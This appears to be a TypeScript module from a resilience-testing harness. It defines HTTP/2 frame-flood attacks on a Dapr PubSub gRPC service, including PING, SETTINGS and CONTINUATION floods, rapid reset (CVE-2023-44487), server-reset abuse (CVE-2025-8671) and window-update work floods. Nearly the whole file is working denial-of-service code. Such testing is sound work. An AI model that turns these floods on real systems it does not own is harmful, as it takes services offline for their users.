import {
  continuation,
  data,
  flag,
  frame,
  frameType,
  goaway,
  grpcMessage,
  headers,
  lastData,
  most31,
  ping,
  resetStream,
  setting,
  settings,
  settingsAck,
  uint32,
  windowUpdate,
} from '../http2/frames.ts';
import { encodeHeaders } from '../http2/hpack.ts';
import { requestHeaders } from '../http2/request.ts';
import { Http2Client } from '../http2-client.ts';
import { type Attack, pour } from './attack.ts';

const service = '/dapr.proto.components.v1.PubSub';
const pingBlock = encodeHeaders(requestHeaders(`${service}/Ping`));
const pullBlock = encodeHeaders(requestHeaders(`${service}/PullMessages`));
const empty = grpcMessage(Buffer.alloc(0));
const eight = Buffer.alloc(8, 1);

/** Frames in one write, and writes in one flood. */
const batch = 500;
const batches = 400;

/** Sends the same frame again and again, 200,000 times at most. */
const repeat = (make: (client: Http2Client) => Uint8Array): Attack => {
  return async ({ socket }, note) => {
    using client = await Http2Client.open(socket);
    const many = Buffer.concat(Array<Uint8Array>(batch).fill(make(client)));
    note(await pour(client, (index) => (index < batches ? many : undefined)));
  };
};

/** Opens streams one after the other, and sends what `make` returns for each: 100,000 at most. */
const streams = (make: (stream: number) => Uint8Array[]): Attack => {
  return async ({ socket }, note) => {
    using client = await Http2Client.open(socket);
    const outcome = await pour(client, (index) => {
      if (index === 1_000) return undefined;
      return Buffer.concat(Array.from({ length: 100 }, () => make(client.nextStream())).flat());
    });
    note(outcome);
  };
};

export const frameFloods = {
  PING: repeat(() => ping(eight)),
  'acknowledgements of PING': repeat(() => ping(eight, flag.ACK)),
  SETTINGS: repeat(() => settings()),
  'SETTINGS with 30 values': repeat(() =>
    settings(...Array.from({ length: 30 }, (_, index) => [0x1000 + index, index] as const)),
  ),
  'acknowledgements of SETTINGS': repeat(() => settingsAck),
  GOAWAY: repeat(() => goaway(0, 0)),
  PRIORITY: repeat(() => frame(frameType.PRIORITY, 0, 1, uint32(0, 0).subarray(0, 5))),
  'unknown frames': repeat(() => frame(0xfa, 0, 0, eight)),
  'WINDOW_UPDATE for the connection': repeat(() => windowUpdate(0, 1)),
  'WINDOW_UPDATE for a stream': repeat((client) => windowUpdate(client.begin('PullMessages'), 1)),
  'empty DATA': repeat((client) => data(client.begin('PullMessages'), Buffer.alloc(0))),
  'DATA that is padding alone': repeat((client) =>
    data(client.begin('PullMessages'), Buffer.from([3, 0, 0, 0]), flag.PADDED),
  ),
  'RST_STREAM for a stream that is reset already': repeat((client) =>
    resetStream(client.begin('PullMessages'), 'CANCEL'),
  ),
  'DATA for a stream that is reset already': repeat((client) => {
    const stream = client.begin('PullMessages');
    client.send(resetStream(stream, 'CANCEL'));
    return data(stream, Buffer.from([0]));
  }),
  'empty CONTINUATION': repeat((client) => {
    client.send(frame(frameType.HEADERS, 0, 1, pingBlock));
    return continuation(1, Buffer.alloc(0));
  }),
  'CONTINUATION of one byte': repeat((client) => {
    client.send(frame(frameType.HEADERS, 0, 1, pingBlock));
    return continuation(1, Buffer.from([0x82]));
  }),
  'empty HEADERS': streams((stream) => [headers(stream, Buffer.alloc(0), flag.END_STREAM)]),
  'rapid reset (CVE-2023-44487)': streams((stream) => [
    headers(stream, pingBlock),
    resetStream(stream, 'CANCEL'),
  ]),
  'rapid reset of whole calls': streams((stream) => [
    headers(stream, pingBlock),
    lastData(stream, empty),
    resetStream(stream, 'CANCEL'),
  ]),
  'rapid reset of subscriptions': streams((stream) => [
    headers(stream, pullBlock),
    resetStream(stream, 'CANCEL'),
  ]),
  'resets by the server: WINDOW_UPDATE of 0 (CVE-2025-8671)': streams((stream) => [
    headers(stream, pullBlock),
    windowUpdate(stream, 0),
  ]),
  'resets by the server: two messages in a unary call': streams((stream) => [
    headers(stream, pingBlock),
    frame(frameType.DATA, 0, stream, Buffer.concat([empty, empty])),
  ]),
  'resets by the server: a window that is too large': streams((stream) => [
    headers(stream, pullBlock),
    windowUpdate(stream, most31),
  ]),
  'resets by the server: a second HEADERS': streams((stream) => [
    headers(stream, pullBlock),
    headers(stream, pullBlock),
  ]),
  'resets by the server: PRIORITY of a wrong length': streams((stream) => [
    headers(stream, pullBlock),
    frame(frameType.PRIORITY, 0, stream, Buffer.alloc(1)),
  ]),
  'resets by the server: wrong content-length': streams((stream) => [
    headers(stream, encodeHeaders(requestHeaders(`${service}/Ping`, [['content-length', '1']]))),
    lastData(stream, empty),
  ]),
} satisfies Record<string, Attack>;

/** Frames that may make much work. */
export const workFloods = {
  'SETTINGS that change the windows of 4,000 streams': async ({ socket }, note) => {
    using client = await Http2Client.open(socket);
    for (let count = 0; count < 4_000; count++) client.begin('PullMessages');
    const change = (size: number) => settings([setting.INITIAL_WINDOW_SIZE, size]);
    const many = Buffer.concat(Array<Buffer>(250).fill(Buffer.concat([change(1), change(70_000)])));
    note(await pour(client, (index) => (index < 100 ? many : undefined)));
  },
  'a window that grows byte by byte under 4,000 answers': async ({ socket }, note) => {
    using client = await Http2Client.open(socket);
    // About 1,800 answers use up the window of the connection.
    for (let count = 0; count < 4_000; count++) client.request('Features');
    await pour(client, () => undefined);
    const many = Buffer.concat(Array<Buffer>(batch).fill(windowUpdate(0, 1)));
    note(await pour(client, (index) => (index < 100 ? many : undefined)));
  },
} satisfies Record<string, Attack>;
